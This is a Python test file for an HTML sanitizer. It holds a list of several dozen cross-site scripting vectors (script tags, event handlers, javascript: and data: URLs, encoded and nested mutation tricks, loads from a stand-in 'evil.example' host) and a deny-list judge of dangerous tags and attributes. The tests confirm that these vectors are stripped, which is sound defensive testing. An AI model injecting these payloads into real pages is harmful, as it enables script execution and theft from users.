"""HTML that we did not write: cleaned, read, rewritten."""

import pytest

from repurpose.text.html import NESTING_MAX, drop_controls, elements, rewrite, sanitize, text_nodes, visible_text

HOSTILE = [
    "<script>steal()</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<scr<script>ipt>steal()</scr</script>ipt>",
    "<img src=x onerror=steal()>",
    '<img src="x" onerror="steal()">',
    "<img/src=x/onerror=steal()>",
    "<img src=`x` onerror=steal()>",
    "<svg onload=steal()>",
    "<svg><script>steal()</script></svg>",
    "<svg><animate onbegin=steal() attributeName=x></svg>",
    '<svg><a xlink:href="javascript:steal()"><text>灯</text></a></svg>',
    "<math><mi//xlink:href='data:x,<script>steal()</script>'>",
    "<math><mtext><table><mglyph><style><img src=x onerror=steal()></style></mglyph></table></mtext></math>",
    '<a href="javascript:steal()">灯</a>',
    '<a href=" javascript:steal()">灯</a>',
    '<a href="java\tscript:steal()">灯</a>',
    '<a href="java\nscript:steal()">灯</a>',
    '<a href="JaVaScRiPt:steal()">灯</a>',
    '<a href="&#106;avascript:steal()">灯</a>',
    '<a href="&#x6A;&#x61;vascript:steal()">灯</a>',
    '<a href="vbscript:steal()">灯</a>',
    '<a href="data:text/html,<script>steal()</script>">灯</a>',
    "<iframe src=javascript:steal()></iframe>",
    "<iframe srcdoc='<script>steal()</script>'></iframe>",
    "<object data=javascript:steal()></object>",
    "<embed src=javascript:steal()>",
    "<form action=javascript:steal()><input type=submit></form>",
    "<button formaction=javascript:steal()>灯</button>",
    "<isindex action=javascript:steal()>",
    "<body onload=steal()>",
    "<style>@import 'javascript:steal()';</style>",
    "<style>body{background:url(javascript:steal())}</style>",
    '<p style="background:url(javascript:steal())">灯</p>',
    '<p style="width:expression(steal())">灯</p>',
    '<p style="position:fixed;top:0">灯</p>',
    "<link rel=stylesheet href=javascript:steal()>",
    "<meta http-equiv=refresh content='0;url=javascript:steal()'>",
    "<base href=javascript:steal()//>",
    "<template><script>steal()</script></template>",
    "<noscript><p title='</noscript><img src=x onerror=steal()>'></noscript>",
    "<textarea><script>steal()</script></textarea>",
    "<details open ontoggle=steal()>灯</details>",
    "<video><source onerror=steal()></video>",
    "<audio src=x onerror=steal()>",
    "<marquee onstart=steal()>灯</marquee>",
    "<input autofocus onfocus=steal()>",
    "<select onchange=steal()><option>灯</select>",
    "<p id=x class=y data-z=1 onclick=steal()>灯</p>",
    "<!--[if IE]><script>steal()</script><![endif]-->",
    "<!-- --!><img src=x onerror=steal()> -->",
    "<?xml version='1.0'?><script>steal()</script>",
    "<![CDATA[<script>steal()</script>]]>",
    '<img src="data:image/svg+xml,<svg onload=steal()>">',
    "<a href='tel:1' style='display:block' ping='//evil.example'>灯</a>",
]


def is_harmless(markup: str) -> bool:
    """Whether nothing in a document could run, load or escape its place. Words may say anything."""
    for element in elements(markup):
        if element.tag in {
            "script",
            "style",
            "iframe",
            "object",
            "embed",
            "svg",
            "math",
            "form",
            "input",
            "link",
            "meta",
            "base",
        }:
            return False
        for name, value in element.attributes.items():
            if name.startswith("on") or name in {"style", "id", "srcdoc", "action", "formaction", "ping"}:
                return False
            scheme = "".join(value.split()).lower()
            if name in {"href", "src"} and scheme.startswith(("javascript:", "vbscript:", "data:")):
                return False
    return True


@pytest.mark.parametrize("vector", HOSTILE)
@pytest.mark.parametrize("around", ["{}", "灯{}塔", "<p>{}</p>", "<div>\n{}\n</div>"])
def test_nothing_hostile_survives(vector: str, around: str) -> None:
    assert is_harmless(sanitize(around.format(vector)))


def test_the_judge_sees_what_is_hostile() -> None:
    assert not is_harmless("<script>x</script>")
    assert not is_harmless("<p onclick=x()>灯</p>")
    assert is_harmless("<p>onclick javascript:</p>")


def test_words_and_structure_stay() -> None:
    markup = '<p>灯<strong>塔</strong> <a href="https://a.cn">油</a></p><table><tbody><tr><td colspan="2">芯</td></tr></tbody></table>'
    assert sanitize(markup) == markup


def test_an_alert_keeps_its_kind_and_nothing_else_a_class() -> None:
    assert sanitize('<blockquote class="tip">灯</blockquote>') == '<blockquote class="tip">灯</blockquote>'
    assert sanitize('<blockquote class="evil">灯</blockquote>') == "<blockquote>灯</blockquote>"


def test_rewriting_goes_from_the_inside_out_and_escapes_words() -> None:
    written = rewrite("<p>1 &lt; 2 <b>灯</b></p>", lambda node, inner, attributes: f"[{node.tag}:{inner}]")
    assert written == "[p:1 &lt; 2 [b:灯]]"


def test_rewriting_unwraps_what_is_nested_too_deep() -> None:
    deep = "<section>" * 5000 + "灯" + "</section>" * 5000
    written = rewrite(deep, lambda node, inner, attributes: f"<{node.tag}>{inner}</{node.tag}>")
    assert written.count("<section>") == NESTING_MAX
    assert "灯" in written


def test_words_of_deep_markup_are_not_lost() -> None:
    assert visible_text(sanitize("<b>" * 100_000 + "灯")) == "灯"


def test_text_nodes_come_in_order_with_their_element() -> None:
    assert [(node.tag, text) for node, text in text_nodes("<p>灯<b>塔</b>油</p>")] == [
        ("p", "灯"),
        ("b", "塔"),
        ("p", "油"),
    ]


def test_elements_know_what_is_around_them() -> None:
    item = elements("<ul><li><b>灯</b></li></ul>")[-1]
    assert [element.tag for element in item.ancestors()] == ["li", "ul"]


def test_controls_and_forced_directions_never_reach_a_reader() -> None:
    assert drop_controls("灯\x00\x08\x7f\u202e\ud800\ufdd0塔\n\t") == "灯塔\n\t"
